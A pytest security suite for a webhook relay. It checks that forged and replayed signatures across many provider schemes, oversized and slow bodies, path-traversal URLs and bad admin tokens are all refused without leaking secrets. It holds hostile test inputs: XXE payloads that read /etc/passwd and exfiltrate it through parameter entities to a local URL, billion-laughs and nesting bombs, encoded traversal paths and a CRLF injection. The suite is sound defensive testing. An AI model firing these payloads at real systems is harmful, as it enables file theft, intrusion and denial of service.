"""Security tests: forged and replayed signatures of every scheme, XML attacks, oversized and slow bodies,
path tricks in source names and the admin token, against the real ingress and the suite's real Redis.

Every refusal must be a 4xx with a JSON reason that shows no secret, and store nothing.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import http.client
import json
import logging
import re
import select
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from ipaddress import ip_network
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote, urlencode

import httpx
import pytest
from aiohttp import web
from pydantic import SecretStr
from redis import Redis

from relay.dev.redis_server import free_port
from relay.infra.serving import AppThread
from relay.ingress.app import create_app
from relay.mapping.config import RelayConfig, parse_config
from relay.mapping.form_bodies import FORM_TYPE
from relay.mapping.sources import SCHEME_NAMES
from relay.settings import Settings
from tests.conftest import (
    KNOWN_PHLO,
    LEAKS,
    Sandbox,
    answers,
    clean_environment,
    drain_queue,
    poll,
    send_raw,
    watch_secrets,
)
from tests.worker.test_delivery_to_runner import FORM

QUERY_TOKEN = "query-token-4c9e1d7b-only-in-urls"
watch_secrets(QUERY_TOKEN)

# -- signatures: every scheme against every forgery ---------------------------------------------------

PUBLIC_URL = "https://relay.example.com"
CLIENT_NETWORK = "203.0.113.0/24"  # ip-allow's network; requests reach it through the trusted proxy
CLIENT_ADDRESS = "203.0.113.7"
Sign = Callable[[str, str, bytes, int], dict[str, str]]  # secret, URL, body, unix time -> headers


def mac(secret: str | bytes, message: bytes, algorithm: str = "sha256") -> bytes:
    key = secret.encode() if isinstance(secret, str) else secret
    return hmac.new(key, message, algorithm).digest()


def b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def standard_webhooks(prefix: str, version: str = "v1", algorithm: str = "sha256") -> Sign:
    def sign(secret: str, url: str, body: bytes, ts: int) -> dict[str, str]:
        key = base64.b64decode(secret.removeprefix("whsec_"))
        signature = b64(mac(key, f"msg_sec.{ts}.".encode() + body, algorithm))
        return {
            f"{prefix}-id": "msg_sec",
            f"{prefix}-timestamp": str(ts),
            f"{prefix}-signature": f"{version},{signature}",
        }

    return sign


def stamped(header: str, version: str = "v1", algorithm: str = "sha256") -> Sign:
    def sign(secret: str, url: str, body: bytes, ts: int) -> dict[str, str]:
        return {header: f"t={ts},{version}={mac(secret, f'{ts}.'.encode() + body, algorithm).hex()}"}

    return sign


def body_hmac(header: str, encode: Callable[[bytes], str], algorithm: str = "sha256") -> Sign:
    return lambda secret, url, body, ts: {header: encode(mac(secret, body, algorithm))}


def hubspot(version: str, stated: str | None = None, keyed: bool = False) -> Sign:
    def sign(secret: str, url: str, body: bytes, ts: int) -> dict[str, str]:
        signed = secret.encode() + (f"POST{url}".encode() if version == "v2" else b"") + body
        digest = mac(secret, body) if keyed else hashlib.sha256(signed).digest()  # keyed: an HMAC instead
        return {"X-HubSpot-Signature": digest.hex(), "X-HubSpot-Signature-Version": stated or version}

    return sign


def hubspot_v3(algorithm: str = "sha256", unit_ms: bool = True) -> Sign:
    def sign(secret: str, url: str, body: bytes, ts: int) -> dict[str, str]:
        stamp = str(ts * 1000 if unit_ms else ts)
        digest = mac(secret, f"POST{url}".encode() + body + stamp.encode(), algorithm)
        return {"X-HubSpot-Signature-v3": b64(digest), "X-HubSpot-Request-Timestamp": stamp}

    return sign


def twilio(algorithm: str = "sha1") -> Sign:
    def sign(secret: str, url: str, body: bytes, ts: int) -> dict[str, str]:
        params = "".join(name + value for name, value in sorted(parse_qsl(body.decode())))
        return {"X-Twilio-Signature": b64(mac(secret, (url + params).encode(), algorithm))}

    return sign


def custom_hmac(prefix: str = "v1=", algorithm: str = "sha512") -> Sign:
    def sign(secret: str, url: str, body: bytes, ts: int) -> dict[str, str]:
        signature = mac(secret, f"{ts}.POST.{url}.".encode() + body, algorithm).hex()
        return {"X-Signature": prefix + signature, "X-Timestamp": str(ts)}

    return sign


def basic_auth(kind: str = "Basic") -> Sign:
    return lambda secret, url, body, ts: {"Authorization": f"{kind} {b64(secret.encode())}"}


def ip_allow(address: str = CLIENT_ADDRESS) -> Sign:
    return lambda secret, url, body, ts: {"X-Forwarded-For": address}


@dataclass(frozen=True)
class Scheme:
    """One verification scheme: its config, how a sender signs, and which forgeries apply to it."""

    id: str
    verify: dict[str, Any]
    secret: str
    sign: Sign
    credential: str  # the header that carries the signature (or "?name": a query parameter)
    wrong_algorithm: tuple[Sign, ...] = ()
    timestamped: bool = False
    signs_body: bool = True
    signs_url: bool = False
    form: bool = False

    @property
    def source(self) -> str:
        return f"sig-{self.id}"


def query_token(secret: str, url: str, body: bytes, ts: int) -> dict[str, str]:
    return {}  # the token is in the URL: see Forgery.path


SCHEMES = [
    Scheme(
        "standard-webhooks",
        {"scheme": "standard-webhooks"},
        "whsec_" + b64(b"standard-webhooks-suite-key"),
        standard_webhooks("webhook"),
        "webhook-signature",
        (standard_webhooks("webhook", algorithm="sha512"), standard_webhooks("webhook", version="v1a")),
        timestamped=True,
    ),
    Scheme(
        "svix",
        {"scheme": "svix"},
        "whsec_" + b64(b"svix-suite-signing-key-0001"),
        standard_webhooks("svix"),
        "svix-signature",
        (standard_webhooks("svix", algorithm="sha1"), standard_webhooks("svix", version="v2")),
        timestamped=True,
    ),
    Scheme(
        "stripe",
        {"scheme": "stripe"},
        "whsec_stripe-suite-secret-0001",
        stamped("Stripe-Signature"),
        "Stripe-Signature",
        (stamped("Stripe-Signature", version="v0"), stamped("Stripe-Signature", algorithm="sha1")),
        timestamped=True,
    ),
    Scheme(
        "calendly",
        {"scheme": "calendly"},
        "calendly-suite-secret-0001",
        stamped("Calendly-Webhook-Signature"),
        "Calendly-Webhook-Signature",
        (stamped("Calendly-Webhook-Signature", algorithm="sha512"),),
        timestamped=True,
    ),
    Scheme(
        "github",
        {"scheme": "github"},
        "github-suite-secret-0001",
        body_hmac("X-Hub-Signature-256", lambda d: "sha256=" + d.hex()),
        "X-Hub-Signature-256",
        (
            body_hmac("X-Hub-Signature-256", lambda d: "sha1=" + d.hex(), "sha1"),
            body_hmac("X-Hub-Signature-256", lambda d: "sha256=" + d.hex(), "sha512"),
        ),
    ),
    Scheme(
        "shopify",
        {"scheme": "shopify"},
        "shopify-suite-secret-0001",
        body_hmac("X-Shopify-Hmac-Sha256", b64),
        "X-Shopify-Hmac-Sha256",
        (body_hmac("X-Shopify-Hmac-Sha256", b64, "sha1"), body_hmac("X-Shopify-Hmac-Sha256", bytes.hex)),
    ),
    Scheme(
        "typeform",
        {"scheme": "typeform"},
        "typeform-suite-secret-0001",
        body_hmac("Typeform-Signature", lambda d: "sha256=" + b64(d)),
        "Typeform-Signature",
        (body_hmac("Typeform-Signature", lambda d: "sha1=" + b64(d), "sha1"),),
    ),
    Scheme(
        "tally",
        {"scheme": "tally"},
        "tally-suite-secret-0001",
        body_hmac("Tally-Signature", b64),
        "Tally-Signature",
        (body_hmac("Tally-Signature", b64, "sha512"),),
    ),
    Scheme(
        "hubspot-v1",
        {"scheme": "hubspot-v1"},
        "hubspot-v1-suite-secret",
        hubspot("v1"),
        "X-HubSpot-Signature",
        (hubspot("v1", keyed=True), hubspot("v1", stated="v2")),
    ),
    Scheme(
        "hubspot-v2",
        {"scheme": "hubspot-v2"},
        "hubspot-v2-suite-secret",
        hubspot("v2"),
        "X-HubSpot-Signature",
        (hubspot("v1"), hubspot("v1", stated="v2")),  # a v1 signature, declared as v1 and as v2
        signs_url=True,
    ),
    Scheme(
        "hubspot-v3",
        {"scheme": "hubspot-v3"},
        "hubspot-v3-suite-secret",
        hubspot_v3(),
        "X-HubSpot-Signature-v3",
        (hubspot_v3("sha512"), hubspot_v3(unit_ms=False)),
        timestamped=True,
        signs_url=True,
    ),
    Scheme(
        "twilio",
        {"scheme": "twilio"},
        "twilio-suite-auth-token",
        twilio(),
        "X-Twilio-Signature",
        (twilio("sha256"),),
        signs_url=True,
        form=True,
    ),
    Scheme(
        "hmac",
        {
            "scheme": "hmac",
            "header": "X-Signature",
            "algorithm": "sha512",
            "prefix": "v1=",
            "signed": "{timestamp}.{method}.{url}.{body}",
            "timestamp_header": "X-Timestamp",
        },
        "hmac-suite-secret-0001",
        custom_hmac(),
        "X-Signature",
        (custom_hmac(prefix="v0="), custom_hmac(algorithm="sha256")),
        timestamped=True,
        signs_url=True,
    ),
    Scheme(
        "basic",
        {"scheme": "basic"},
        "relay:basic-suite-password",
        basic_auth(),
        "Authorization",
        (basic_auth("Bearer"), basic_auth("Digest")),
        signs_body=False,
    ),
    Scheme(
        "token",
        {"scheme": "token", "header": "X-Relay-Token"},
        "token-suite-secret-0001",
        lambda secret, url, body, ts: {"X-Relay-Token": secret},
        "X-Relay-Token",
        (lambda secret, url, body, ts: {"X-Relay-Token": f"Bearer {secret}"},),
        signs_body=False,
    ),
    Scheme(
        "token-query",
        {"scheme": "token", "query": "key"},
        "token-query-suite-secret",
        query_token,
        "?key",
        signs_body=False,
    ),
    Scheme(
        "ip-allow",
        {"scheme": "ip-allow", "networks": [CLIENT_NETWORK]},
        "",
        ip_allow(),
        "X-Forwarded-For",
        # An allowed address the sender wrote in front of its own: the proxy appends the real one.
        (ip_allow(f"{CLIENT_ADDRESS}, 198.51.100.9"), ip_allow("::ffff:198.51.100.9")),
        signs_body=False,
    ),
]
watch_secrets(*(scheme.secret for scheme in SCHEMES))


def test_every_scheme_is_in_the_table() -> None:
    assert {scheme.verify["scheme"] for scheme in SCHEMES} == set(SCHEME_NAMES)


def signing_config() -> tuple[RelayConfig, dict[str, str]]:
    """A source per scheme, each routed to the known PHLO; and the environment holding their secrets."""
    sources: dict[str, Any] = {}
    routes = []
    environ = {}
    for index, scheme in enumerate(SCHEMES):
        verify = dict(scheme.verify)
        if scheme.secret:
            environ[f"SECRET_{index}"] = scheme.secret
            verify["secrets"] = [f"SECRET_{index}"]
        sources[scheme.source] = {"verify": verify, "event_id": {"path": "id"}}
        payload = {"to": {"path": "to", "required": True}, "event": {"path": "id"}}
        routes.append(
            {"name": f"r-{scheme.id}", "source": scheme.source, "phlo_id": KNOWN_PHLO, "payload": payload}
        )
    return parse_config(json.dumps({"sources": sources, "routes": routes}), "signing.yaml"), environ


@dataclass(frozen=True)
class Forgery:
    """A request as the attacker sends it."""

    path: str
    headers: dict[str, str]
    body: bytes


def genuine(scheme: Scheme, event: str, ts: int | None = None, url_path: str | None = None) -> Forgery:
    """A request the sender signed, for ``url_path`` (default: where it is sent) at ``ts`` (default: now)."""
    path = f"/hooks/{scheme.source}" + (f"?key={scheme.secret}" if scheme.credential == "?key" else "")
    if scheme.form:
        body, content_type = urlencode({"id": event, "to": "+14155550100"}).encode(), FORM_TYPE
    else:
        body, content_type = json.dumps({"id": event, "to": "+14155550100"}).encode(), "application/json"
    now = int(time.time()) if ts is None else ts
    headers = scheme.sign(scheme.secret, PUBLIC_URL + (url_path or path), body, now)
    return Forgery(path, {"Content-Type": content_type, **headers}, body)


def with_credential(request: Forgery, scheme: Scheme, value: str | None) -> Forgery:
    """The request with its signature (or token) replaced; None removes it."""
    if scheme.credential.startswith("?"):
        path = request.path.partition("?")[0] + ("" if value is None else f"?key={quote(value)}")
        return replace(request, path=path)
    headers = {name: v for name, v in request.headers.items() if name != scheme.credential}
    return replace(request, headers=headers if value is None else {**headers, scheme.credential: value})


def credential(request: Forgery, scheme: Scheme) -> str:
    if scheme.credential.startswith("?"):
        return scheme.secret
    return request.headers[scheme.credential]


def forgeries(scheme: Scheme) -> Iterator[tuple[str, Forgery]]:
    """Every forgery that applies to the scheme, each named."""
    valid = genuine(scheme, "evt-forged")
    value = credential(valid, scheme)
    yield "missing", with_credential(valid, scheme, None)
    yield "empty", with_credential(valid, scheme, "")
    yield "malformed", with_credential(valid, scheme, "not a signature !!!")
    yield "truncated-1", with_credential(valid, scheme, value[:-1])
    yield "truncated-4", with_credential(valid, scheme, value[:-4])
    yield "doubled", with_credential(valid, scheme, value + value)
    for index, sign in enumerate(scheme.wrong_algorithm):
        headers = sign(scheme.secret, PUBLIC_URL + valid.path, valid.body, int(time.time()))
        yield f"wrong-algorithm-{index}", replace(valid, headers={**valid.headers, **headers})
    if scheme.timestamped:
        # Replays: a genuine request sent again after the tolerance window (and one dated ahead of it).
        yield "replayed", genuine(scheme, "evt-forged", ts=int(time.time()) - 300 - 60)
        yield "from-the-future", genuine(scheme, "evt-forged", ts=int(time.time()) + 300 + 60)
    if scheme.signs_body:
        yield "other-body", replace(valid, body=valid.body.replace(b"evt-forged", b"evt-forgeD"))
    if scheme.signs_url:
        other = genuine(scheme, "evt-forged", url_path=f"/hooks/{scheme.source}?redirect=1")
        yield "other-url", other


def sensitive_parts(scheme: Scheme) -> set[str]:
    """What a refusal must never show: the secret, and the expected signature in any piece or encoding."""
    parts = {scheme.secret, scheme.secret.removeprefix("whsec_")} - {""}
    value = credential(genuine(scheme, "evt-forged"), scheme)
    parts.update(part for part in re.split(r"[ ,=]", value) if len(part) >= 16)
    return parts


@pytest.fixture
def signing_settings(settings: Settings) -> Settings:
    trusted = [ip_network("127.0.0.1/32")]  # the test client: the load balancer in front of the relay
    return settings.model_copy(update={"public_url": PUBLIC_URL, "trusted_proxies": trusted})


@pytest.mark.parametrize("scheme", SCHEMES, ids=[scheme.id for scheme in SCHEMES])
async def test_every_forgery_is_401_with_a_reason_that_shows_no_secret(
    aiohttp_client: Any, signing_settings: Settings, redis: Redis, scheme: Scheme
) -> None:
    config, environ = signing_config()
    client = await aiohttp_client(create_app(signing_settings, config, environ))
    hidden = sensitive_parts(scheme)
    wrong = []
    for name, forged in forgeries(scheme):
        response = await client.post(forged.path, data=forged.body, headers=forged.headers)
        text = await response.text()
        answer = json.loads(text) if response.content_type == "application/json" else {}
        if response.status != 401 or answer.get("error") != "verification_failed" or not answer["message"]:
            wrong.append(f"{name}: {response.status} {text[:200]}")
        wrong += [f"{name}: the answer shows {part[:6]}..." for part in hidden if part in text]
    assert not wrong
    assert redis.dbsize() == 0  # nothing stored, no duplicate claimed
    valid = genuine(scheme, "evt-genuine")  # and the table is right: the genuine request passes
    response = await client.post(valid.path, data=valid.body, headers=valid.headers)
    assert response.status == 202, await response.text()


async def test_a_replay_within_the_window_is_a_duplicate_and_runs_the_phlo_once(
    aiohttp_client: Any, signing_settings: Settings, redis: Redis, sandbox: Sandbox
) -> None:
    """A genuine request captured and sent again (a valid signature, in the tolerance window)."""
    config, environ = signing_config()
    client = await aiohttp_client(create_app(signing_settings, config, environ))
    for scheme in SCHEMES:
        request = genuine(scheme, f"evt-replayed-{scheme.id}")
        first = await client.post(request.path, data=request.body, headers=request.headers)
        again = await client.post(request.path, data=request.body, headers=request.headers)
        assert first.status == 202, (scheme.id, await first.text())
        assert again.status == 200, (scheme.id, await again.text())
        replayed = await again.json()
        assert replayed["status"] == "duplicate"
        assert replayed["event_id"] == (await first.json())["event_id"]
    drain_queue(signing_settings)
    events = sorted(json.loads(run["raw_body"])["event"] for run in sandbox.runs())
    assert events == sorted(f"evt-replayed-{scheme.id}" for scheme in SCHEMES)


# -- oversized and slow bodies (a real server, a real socket) ------------------------------------------


def read_answer(sock: socket.socket) -> tuple[int, dict[str, Any]]:
    """The status and JSON body of an HTTP answer on a blocking socket."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        assert chunk, f"the server closed the connection without answering: {data!r}"
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = {
        name.strip().lower(): value.strip() for name, _, value in (line.partition(":") for line in lines[1:])
    }
    while len(body) < int(headers["content-length"]):
        chunk = sock.recv(65536)
        assert chunk, "the server closed the connection in the middle of its answer"
        body += chunk
    assert headers["content-type"].startswith("application/json")
    return int(lines[0].split()[1]), json.loads(body)


def request_head(path: str, content_length: int | None = None, chunked: bool = False) -> bytes:
    length = f"Content-Length: {content_length}\r\n" if content_length is not None else ""
    encoding = "Transfer-Encoding: chunked\r\n" if chunked else ""
    return (
        f"POST {path} HTTP/1.1\r\nHost: relay\r\nContent-Type: application/json\r\n{length}{encoding}\r\n"
    ).encode()


@pytest.fixture
def small_ingress(settings: Settings, config: RelayConfig) -> Iterator[AppThread]:
    """The ingress on a real port, with a 2 KiB body limit and a read timeout of half a second."""
    tight = settings.model_copy(update={"max_body_bytes": 2048, "body_read_timeout_s": 0.5})
    with AppThread(lambda: create_app(tight, config, environ={})) as app:
        yield app


def still_serves(app: AppThread) -> None:
    response = httpx.post(f"{app.url}/hooks/website-form", json=FORM, timeout=10)
    assert response.status_code == 202, response.text


def test_a_slow_drip_body_is_cut_off_with_408(small_ingress: AppThread, redis: Redis) -> None:
    """A sender dripping a byte every 0.1 s never trips a per-read timeout; the whole body's deadline does."""
    with socket.create_connection((small_ingress.host, small_ingress.port), timeout=10) as sock:
        sock.sendall(request_head("/hooks/website-form", content_length=1000))
        body = json.dumps({**FORM, "padding": "x" * 1000}).encode()
        for byte in body[:100]:  # 10 s of drip at most: far beyond the timeout
            readable, _, _ = select.select([sock], [], [], 0.1)
            if readable:
                break
            sock.sendall(bytes([byte]))
        else:
            pytest.fail("the ingress kept reading a body dripped for 10 s")
        status, answer = read_answer(sock)
    assert status == 408
    assert answer == {"error": "request_timeout", "message": "the body did not arrive within 0.5 s"}
    assert redis.dbsize() == 0
    still_serves(small_ingress)


# -- no secret in a log line of the real server ---------------------------------------------------------


def test_relay_serve_logs_no_query_string_where_a_token_may_be(settings: Settings, tmp_path: Path) -> None:
    """Regression: aiohttp's access log wrote the request line whole, so `relay serve` logged the token of
    every Jotform, Zoho and Salesforce request (?token=...) at INFO."""
    config = tmp_path / "query-token.yaml"
    config.write_text(
        "sources:\n  jotform:\n    verify: {scheme: token, query: token, secrets: [JOTFORM_TOKEN]}\n"
    )
    port = free_port()
    env = clean_environment(
        **{
            **settings.as_environment(),
            "RELAY_PORT": str(port),
            "RELAY_CONFIG_PATH": str(config),
            "JOTFORM_TOKEN": QUERY_TOKEN,
        }
    )
    log_path = tmp_path / "serve.log"
    with log_path.open("wb") as log:
        serve = subprocess.Popen([sys.executable, "-m", "relay", "serve"], env=env, cwd=tmp_path, stderr=log)
        try:
            poll(lambda: answers(f"http://127.0.0.1:{port}/healthz"))
            for token in (QUERY_TOKEN, QUERY_TOKEN[:-1]):  # http.client: httpx itself logs the URL
                connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
                headers = {"Content-Type": "application/json"}
                connection.request("POST", f"/hooks/jotform?token={token}&x=1", b'{"id": 1}', headers)
                response = connection.getresponse()
                assert response.status in (200, 401)
                assert QUERY_TOKEN[:-1].encode() not in response.read()
                connection.close()
        finally:
            serve.terminate()
            serve.wait(timeout=30)
    lines = log_path.read_text(errors="replace")
    # Both requests are in the log (a webhook's own lines stand for its access line), the token is not.
    assert '"outcome":"ignored"' in lines and "refused POST /hooks/jotform: 401" in lines
    assert QUERY_TOKEN[:-1] not in lines


def test_a_declared_body_over_the_limit_is_413_before_it_is_read(
    small_ingress: AppThread, redis: Redis
) -> None:
    with socket.create_connection((small_ingress.host, small_ingress.port), timeout=10) as sock:
        sock.sendall(request_head("/hooks/website-form", content_length=10**9))  # and not one byte of it
        status, answer = read_answer(sock)
    assert status == 413
    assert answer == {
        "error": "body_too_large",
        "message": "body of 1000000000 bytes is over the limit of 2048",
    }
    assert redis.dbsize() == 0
    still_serves(small_ingress)


def test_a_chunked_body_growing_past_the_limit_is_413(small_ingress: AppThread, redis: Redis) -> None:
    """No Content-Length to refuse up front: the limit holds while reading."""
    with socket.create_connection((small_ingress.host, small_ingress.port), timeout=10) as sock:
        sock.sendall(request_head("/hooks/website-form", chunked=True))
        for _ in range(100):  # 100 KiB at most, fifty times the limit
            readable, _, _ = select.select([sock], [], [], 0.02)
            if readable:
                break
            sock.sendall(b"400\r\n" + b" " * 1024 + b"\r\n")
        else:
            pytest.fail("the ingress kept reading a chunked body 50 times over the limit")
        status, answer = read_answer(sock)
    assert status == 413
    assert answer == {"error": "body_too_large", "message": "body is over the limit of 2048 bytes"}
    assert redis.dbsize() == 0
    still_serves(small_ingress)


# -- XML attacks and deep nesting -----------------------------------------------------------------------

XML_CONFIG = f"""
sources:
  xml-in:
    event_id: {{path: a.id}}
routes:
  - name: xml-call
    source: xml-in
    phlo_id: {KNOWN_PHLO}
    payload: {{to: {{path: a.to}}}}
"""
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
XML_ATTACKS = {
    "billion-laughs": f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "lol">{LAUGHS}]><a>&l9;</a>',
    "quadratic-blowup": f'<!DOCTYPE a [<!ENTITY x "{"x" * 10_000}">]><a>{"&x;" * 1000}</a>',
    "external-file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a><to>&x;</to></a>',
    "external-http": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]><a><to>&x;</to></a>',
    "external-dtd": '<!DOCTYPE a SYSTEM "http://127.0.0.1:9/evil.dtd"><a><to>&x;</to></a>',
    "parameter-entities": (
        '<!DOCTYPE a [<!ENTITY % file SYSTEM "file:///etc/passwd">'
        "<!ENTITY % wrap \"<!ENTITY send SYSTEM 'http://127.0.0.1:9/?%file;'>\">%wrap;]><a>&send;</a>"
    ),
    "xinclude": (
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><to><xi:include href="file:///etc/passwd" '
        'parse="text"/></to></a>'
    ),
    "undeclared-entity": "<a><to>&passwd;</to></a>",
    "utf16-doctype": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "nested-10^5": "<a>" * 100_000 + "</a>" * 100_000,
}


@pytest.mark.parametrize("attack", list(XML_ATTACKS), ids=list(XML_ATTACKS))
async def test_xml_attacks_are_400_and_store_nothing(
    aiohttp_client: Any, settings: Settings, redis: Redis, attack: str
) -> None:
    client = await aiohttp_client(create_app(settings, parse_config(XML_CONFIG, "xml.yaml"), environ={}))
    body = XML_ATTACKS[attack].encode("utf-16" if attack.startswith("utf16") else "utf-8")
    for content_type in ("text/xml", "application/soap+xml; charset=utf-8"):
        if attack.startswith("utf16"):
            content_type = "application/xml"  # no charset: expat reads the BOM
        response = await client.post("/hooks/xml-in", data=body, headers={"Content-Type": content_type})
        text = await response.text()
        assert response.status == 400, text
        assert (await response.json())["error"] == "malformed_body"
        assert "root:" not in text  # nothing of /etc/passwd, ever
    assert redis.dbsize() == 0


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("application/json", b"[" * 100_000 + b"]" * 100_000),
        ("application/json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
        ("application/x-www-form-urlencoded", b"payload=" + b"%5B" * 100_000),
    ],
    ids=["json-array", "json-object", "json-in-form"],
)
async def test_json_nested_10_to_the_5_is_400_not_a_crash(
    aiohttp_client: Any, settings: Settings, redis: Redis, content_type: str, body: bytes
) -> None:
    config = parse_config("sources:\n  deep:\n    form_document_field: payload\nroutes: []\n", "deep.yaml")
    client = await aiohttp_client(
        create_app(settings.model_copy(update={"max_body_bytes": 10**6}), config, {})
    )
    response = await client.post("/hooks/deep", data=body, headers={"Content-Type": content_type})
    assert response.status == 400, await response.text()
    assert "nested deeper than" in (await response.json())["message"]
    assert redis.dbsize() == 0


# -- source names that try path tricks ------------------------------------------------------------------

PATH_TRICKS = [
    "/hooks/..%2Fadmin%2Fdead-letters",
    "/hooks/..%2fevents%2fevt_x",
    "/hooks/%2e%2e/events/evt_x",
    "/hooks/%2E%2E%2Fadmin",
    "/hooks/..",
    "/hooks/.",
    "/hooks/%2e",
    "/hooks/website-form%2F..%2F..%2Fadmin",
    "/hooks/website-form%00",
    "/hooks/%00",
    "/hooks/website-form%0d%0aX-Injected:%201",
    "/hooks/website-form;admin",
    "/hooks/website-form%3Fx=1",
    "/hooks/website-form%23x",
    "/hooks/WEBSITE-FORM",
    "/hooks/%77ebsite-form%20",
    "/hooks/%C3%A9v%C3%A9nement",
    "/hooks/%ff%fe",
    "/hooks/%uff0e%uff0e",
    "/hooks/%EF%BC%8E%EF%BC%8E",  # fullwidth full stops, which NFKC folds to ".."
    "/hooks/" + "a" * 8000,
    "/hooks/" + "%2e%2e%2f" * 800 + "admin",
    "/hooks//website-form",
    "/hooks/website-form/",
    "/hooks/website-form/../../admin/dead-letters",
]


async def test_source_names_that_try_path_tricks_are_404_json_and_reach_no_other_handler(
    aiohttp_client: Any, settings: Settings, config: RelayConfig, redis: Redis
) -> None:
    admin = settings.model_copy(update={"admin_token": SecretStr(ADMIN_TOKEN)})
    client = await aiohttp_client(create_app(admin, config))
    assert client.port is not None
    wrong = []
    for path in PATH_TRICKS:
        body = json.dumps(FORM).encode()
        response = await send_raw(
            client.port,
            f"POST {path} HTTP/1.1\r\nHost: relay\r\nContent-Type: application/json\r\n".encode("latin-1")
            + f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode()
            + body,
        )
        error = (
            response.json().get("error")
            if response.headers.get("content-type", "").startswith("application/json")
            else None
        )
        if response.status not in (404, 405) or error not in (
            "unknown_source",
            "not_found",
            "method_not_allowed",
        ):
            wrong.append(f"{path[:60]}: {response.status} {response.body[:120]!r}")
    assert not wrong
    assert redis.dbsize() == 0


async def test_a_raw_nul_or_control_byte_in_the_path_is_refused_by_the_http_parser(
    aiohttp_client: Any, settings: Settings, config: RelayConfig
) -> None:
    """Bytes no URL may hold never reach a handler: aiohttp's parser answers 400 (in plain text, its own)."""
    client = await aiohttp_client(create_app(settings, config))
    assert client.port is not None
    for raw in (b"/hooks/a\x00b", b"/hooks/a\x7fb", b"/hooks/\xff", "/hooks/\uff0e\uff0e".encode()):
        response = await send_raw(client.port, b"POST " + raw + b" HTTP/1.1\r\nHost: relay\r\n\r\n")
        assert response.status == 400


# -- the admin API's token ------------------------------------------------------------------------------

ADMIN_TOKEN = "admin-token-security-suite-3e8a"
watch_secrets(ADMIN_TOKEN)


@pytest.mark.parametrize(
    ("token", "status"),
    [(None, 404), ("", 404), ("   ", 404), (ADMIN_TOKEN, 401)],
    ids=["unset", "empty", "blank", "set"],
)
async def test_admin_endpoints_refuse_every_request_without_the_bearer_token(
    aiohttp_client: Any, settings: Settings, config: RelayConfig, redis: Redis, token: str | None, status: int
) -> None:
    """Unset or empty RELAY_ADMIN_TOKEN: the API does not exist (404). Set: 401 without the exact token."""
    secured = settings.model_copy(update={"admin_token": None if token is None else SecretStr(token)})
    client = await aiohttp_client(create_app(secured, config))
    attempts: list[tuple[str, dict[str, str]]] = [
        ("", {}),
        ("", {"Authorization": ""}),
        ("", {"Authorization": "Bearer"}),
        ("", {"Authorization": "Bearer "}),
        ("", {"Authorization": "Bearer wrong-token"}),
        ("", {"Authorization": f"Bearer {ADMIN_TOKEN[:-1]}"}),
        ("", {"Authorization": f"Bearer {ADMIN_TOKEN}x"}),
        ("", {"Authorization": f"Bearer {ADMIN_TOKEN} {ADMIN_TOKEN}"}),
        ("", {"Authorization": f"Basic {b64(ADMIN_TOKEN.encode())}"}),
        ("", {"Authorization": f"Token {ADMIN_TOKEN}"}),
        ("", {"Authorization": ADMIN_TOKEN}),
        ("", {"X-Admin-Token": ADMIN_TOKEN}),
        ("", {"Cookie": f"token={ADMIN_TOKEN}"}),
        (f"?token={ADMIN_TOKEN}", {}),
        (f"?access_token={ADMIN_TOKEN}", {}),
    ]
    wrong = []
    for query, headers in attempts:
        for method, path in [
            ("GET", "/admin/dead-letters"),
            ("GET", "/admin/dead-letters/evt_x-route"),
            ("POST", "/admin/dead-letters/replay"),
            ("POST", "/admin/dead-letters/purge"),
        ]:
            response = await client.request(method, path + query, headers=headers, json={"all": True})
            answer = await response.json()
            expected = "not_found" if status == 404 else "unauthorized"
            if response.status != status or answer["error"] != expected:
                wrong.append(f"{method} {path}{query} {headers}: {response.status} {answer}")
            if status == 401 and not response.headers.get("WWW-Authenticate", "").startswith("Bearer"):
                wrong.append(f"{method} {path}: no WWW-Authenticate: Bearer")
    assert not wrong
    assert redis.dbsize() == 0
    if token == ADMIN_TOKEN:  # the exact token passes
        response = await client.get("/admin/dead-letters", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})
        assert response.status == 200


# -- the leak check itself ------------------------------------------------------------------------------


async def test_the_session_leak_check_sees_log_records_and_answers(aiohttp_client: Any) -> None:
    """The session-wide check (tests/conftest.py) would fail on a secret in a log line or an answer."""

    async def careless(request: web.Request) -> web.Response:
        logging.getLogger("relay.careless").debug("token is %s", ADMIN_TOKEN)
        return web.json_response({"token": ADMIN_TOKEN})

    app = web.Application()
    app.router.add_get("/careless", careless)
    client = await aiohttp_client(app)
    before = len(LEAKS)
    assert (await (await client.get("/careless")).json())["token"]
    found, LEAKS[before:] = LEAKS[before:], []
    assert [leak.split(":")[0] for leak in found] == [
        "log record of relay.careless",
        "answer to GET /careless",
    ]
